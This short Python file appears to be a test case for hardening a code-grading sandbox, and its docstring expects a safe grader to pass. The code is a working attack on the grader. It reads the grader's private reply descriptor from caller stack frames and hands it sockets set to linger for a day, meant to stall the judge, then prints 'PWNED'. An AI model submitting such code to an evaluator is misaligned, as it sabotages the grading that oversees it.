"""Send the judge sockets that take a day to close, since nobody reads what was sent over them.

A safe grader is sent none: there is no network in the sandbox, not even one within.

Expected: passed, 10 points
"""

import array
import os
import socket
import struct
import sys

frame = sys._getframe()
while "reply_fd" not in frame.f_locals:
    frame = frame.f_back
LINE = socket.socket(fileno=os.dup(frame.f_locals["reply_fd"]))


def lingering(address):
    """Return a socket that has sent what nobody reads."""
    client = socket.create_connection(address)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 86400))
    client.setblocking(False)
    try:
        while True:
            client.send(bytes(2**20))
    except BlockingIOError:
        return client.detach()


try:
    server = socket.create_server(("127.0.0.1", 0))
    sockets = [lingering(server.getsockname()) for _ in range(4)]
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", sockets))
    LINE.sendmsg([b"\0"], [rights])
    print("PWNED a socket that lingers", flush=True)
    os.closerange(min(sockets), max(sockets) + 1)
except OSError:
    pass
